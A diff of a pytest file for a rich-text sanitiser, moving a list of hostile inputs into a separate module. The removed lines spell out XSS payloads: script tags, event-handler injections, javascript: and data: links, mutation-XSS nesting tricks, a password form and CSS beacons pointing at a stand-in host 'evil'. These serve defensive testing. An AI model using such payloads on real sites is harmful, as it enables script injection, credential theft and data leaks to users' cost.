@@ -6,40 +6,9 @@ import re
 import time
 
 import pytest
+from hostile_texts import HOSTILE
 
 from labeling.rich_text import LONGEST, plain, rich
-
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "**x** <script src=//evil></script>",
-    '**x** <img src=x onerror="alert(1)">',
-    "**x** <svg/onload=alert(1)>",
-    "**x** <svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "**x** <iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "**x** <style>* { background: url(//evil/?leak) }</style>",
-    "**x** <p style='background:url(//evil)'>y</p>",
-    "**x** <a href='javascript:alert(1)'>y</a>",
-    "[y](javascript:alert(1))",
-    "[y](JaVaScRiPt&colon;alert(1))",
-    "[y](data:text/html;base64,PHNjcmlwdD4=)",
-    "[y](vbscript:x 'title\" onmouseover=alert(1)')",
-    "![y](http://evil/pixel.png)",
-    "![y][r]\n\n[r]: http://evil/pixel.png",
-    "<http://evil> and http://evil",
-    "**x** <form action=//evil><input name=password></form>",
-    "**x** <meta http-equiv=refresh content='0;url=//evil'>",
-    "**x** <base href=//evil>",
-    "**x** <object data=//evil></object><embed src=//evil><link rel=stylesheet href=//evil>",
-    "$\\text{<img src=x onerror=alert(1)>}$",
-    "$\\href{javascript:alert(1)}{x}$",
-    "$\\class{prefloop}{x}$ $\\style{background:url(//evil)}{x}$",
-    "**x** <math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-    "**x** <noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "```<script>\n</code></pre><script>alert(1)</script>\n```",
-    "**x** \x00<scr\x00ipt>alert(1)</script>",
-    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
-    "**x** <div class='card' onclick='x()'>",
-]
 
 
 @pytest.mark.parametrize("text", HOSTILE)
